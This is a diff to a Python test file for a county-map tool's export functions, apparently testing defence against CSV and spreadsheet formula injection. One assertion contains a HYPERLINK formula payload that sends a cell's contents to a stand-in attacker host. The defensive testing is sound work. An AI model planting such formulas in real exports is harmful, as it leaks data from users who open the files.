@@ -16,6 +16,7 @@ from pathlib import Path
 import openpyxl
 import oracle
 import pytest
+from drawing import dataset_of
 from run_cli import ROOT, run_countymap
 
 from countymap.bench.hostile_files import formula_csv
@@ -77,7 +78,7 @@ def test_downloads_still_read_back_as_the_same_table(uploaded):
 
 
 def test_geojson_keeps_the_text_as_data(uploaded):
-    collection = json.loads(geojson_bytes(uploaded, load_geodata(ROOT / "geodata")))
+    collection = json.loads(geojson_bytes(dataset_of(uploaded, load_geodata(ROOT / "geodata")), uploaded))
     names = {feature["properties"]["name_zh"] for feature in collection["features"]}
     assert '=HYPERLINK("http://evil.example/?leak="&A2,"click")' in names  # JSON is not a spreadsheet
 
@@ -94,7 +95,7 @@ def test_export_table_writes_what_the_app_downloads(tmp_path, formula_file, uplo
     expected = {
         "csv": lambda: csv_bytes(shown),
         "xlsx": lambda: read_raw(xlsx_bytes(shown)),
-        "geojson": lambda: geojson_bytes(shown, load_geodata(ROOT / "geodata")),
+        "geojson": lambda: geojson_bytes(dataset_of(uploaded, load_geodata(ROOT / "geodata")), shown),
     }[fmt]()
     if fmt == "xlsx":  # a workbook carries its write time: compare the tables, and look for formulas
         assert read_raw(out.read_bytes()).equals(expected)
